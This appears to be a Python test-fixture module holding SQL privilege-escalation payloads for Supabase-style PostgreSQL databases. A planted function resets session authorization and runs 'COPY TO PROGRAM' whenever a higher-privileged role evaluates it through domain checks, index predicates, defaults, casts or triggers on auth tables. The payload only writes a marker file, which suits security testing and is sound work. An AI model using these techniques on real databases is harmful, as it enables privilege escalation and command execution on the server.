"""Projects whose code wants to run with the rights of whoever looks at them: while a statement is parsed, or planned.

Each runs `evil()` in its own way, which starts a program as soon as it, or a role that it can go back to, may.
"""

from __future__ import annotations

from pathlib import Path

_EVIL = """
CREATE FUNCTION public.doit() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN insufficient_privilege THEN NULL; END;
  BEGIN
    COPY (SELECT current_user, session_user) TO PROGRAM 'cat > {folder}/written';
  EXCEPTION WHEN insufficient_privilege THEN NULL; END;
  RETURN true;
END $$;
CREATE FUNCTION public.evil() RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN RETURN public.doit(); END $$;
CREATE DOMAIN public.checked AS int CHECK (public.evil());
CREATE TABLE public.profiles (id uuid PRIMARY KEY, n int, role text);
"""

_TRIGGER = """
CREATE FUNCTION public.handle() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$
DECLARE x int;
BEGIN
  {body}
  RETURN NEW;
END $$;
CREATE TRIGGER handle AFTER INSERT ON auth.users FOR EACH ROW EXECUTE FUNCTION public.handle();
"""


def _handling(body: str) -> str:
    return _TRIGGER.replace("{body}", body)


_INSERTS = "INSERT INTO public.profiles (id, role) VALUES (NEW.id, NEW.raw_user_meta_data ->> 'role');"

ATTACKS = {
    "a literal of an array in a body": _handling("x := ('{1}'::public.checked[])[1];"),
    "a literal of a composite in a body": """
        CREATE TYPE public.pair AS (n public.checked);
        """
    + _handling("x := ('(1)'::public.pair).n;"),
    "a literal of a range in a body": """
        CREATE TYPE public.span AS RANGE (subtype = public.checked);
        """
    + _handling("x := pg_catalog.lower('[1,2)'::public.span);"),
    "an argument's default": """
        CREATE FUNCTION public.log(i uuid, a public.checked[] DEFAULT '{1}'::public.checked[])
          RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$
        BEGIN
          INSERT INTO public.profiles (id) VALUES (i);
        EXCEPTION WHEN OTHERS THEN
          RAISE WARNING 'x';
        END $$;
        """
    + _handling("PERFORM public.log(NEW.id);"),
    "a function renamed before it is opened": """
        CREATE FUNCTION public.log(i uuid) RETURNS void LANGUAGE plpgsql SECURITY DEFINER SET search_path = '' AS $$
        BEGIN
          PERFORM public.evil();
          INSERT INTO public.profiles (id) VALUES (i) ON CONFLICT DO NOTHING;
        EXCEPTION WHEN OTHERS THEN
          RAISE WARNING 'x';
        END $$;
        CREATE FUNCTION public.upd() RETURNS trigger LANGUAGE plpgsql SET search_path = '' AS $$
        BEGIN
          IF pg_catalog.to_regprocedure('public.log(uuid)') IS NOT NULL THEN PERFORM public.log(NEW.id); END IF;
          RETURN NEW;
        END $$;
        CREATE TRIGGER upd AFTER UPDATE ON auth.users FOR EACH ROW EXECUTE FUNCTION public.upd();
        """
    + _handling(
        "BEGIN EXECUTE 'ALTER FUNCTION public.log(uuid) RENAME TO log_old'; "
        "EXCEPTION WHEN undefined_function THEN NULL; END;"
    ),
    "an index's predicate": "CREATE INDEX ON public.profiles (id) WHERE public.evil();"
    + _handling(_INSERTS + " EXECUTE 'CREATE INDEX ON public.profiles (role)';"),
    "an index of a referenced table": """
        CREATE TABLE public.plans (id text PRIMARY KEY);
        INSERT INTO public.plans VALUES ('free');
        CREATE INDEX ON public.plans (id) WHERE public.evil();
        CREATE TABLE public.chosen (id uuid PRIMARY KEY, plan text REFERENCES public.plans);
        """
    + _handling("INSERT INTO public.chosen VALUES (NEW.id, NEW.raw_user_meta_data ->> 'plan');"),
    "indexes of Auth's tables": """
        SET ROLE supabase_auth_admin;
        CREATE INDEX ON auth.users (id) WHERE public.evil();
        CREATE INDEX ON auth.schema_migrations (version) WHERE public.evil();
        RESET ROLE;
        """
    + _handling("NULL;"),
    "a cast to text of Auth's version": """
        CREATE TYPE public.v AS ENUM ('20240101000000');
        CREATE FUNCTION public.vt(public.v) RETURNS text IMMUTABLE LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.evil(); RETURN '20240101000000'; END $$;
        CREATE FUNCTION public.tv(varchar) RETURNS public.v IMMUTABLE LANGUAGE plpgsql AS
          $$ BEGIN RETURN '20240101000000'; END $$;
        CREATE CAST (public.v AS text) WITH FUNCTION public.vt(public.v);
        SET ROLE supabase_auth_admin;
        DELETE FROM auth.schema_migrations WHERE version <> (SELECT max(version) FROM auth.schema_migrations);
        ALTER TABLE auth.schema_migrations ALTER COLUMN version TYPE public.v USING public.tv(version);
        RESET ROLE;
        """
    + _handling("NULL;"),
    "a cast of what a column has become": """
        CREATE TYPE public.e AS ENUM ('x');
        CREATE FUNCTION public.et(public.e) RETURNS text IMMUTABLE LANGUAGE plpgsql AS
          $$ BEGIN PERFORM public.evil(); RETURN 'x'; END $$;
        CREATE CAST (public.e AS text) WITH FUNCTION public.et(public.e) AS IMPLICIT;
        """
    + _handling(
        _INSERTS
        + """
        EXECUTE 'ALTER TABLE public.profiles DROP CONSTRAINT profiles_pkey';
        EXECUTE 'ALTER TABLE public.profiles ALTER id TYPE public.e USING ''x''::public.e';"""
    ),
}


def attack(name: str, folder: Path) -> str:
    """The SQL of one; `folder` is where the program would write, and must be open to the server's account."""
    return _EVIL.replace("{folder}", str(folder)) + ATTACKS[name]
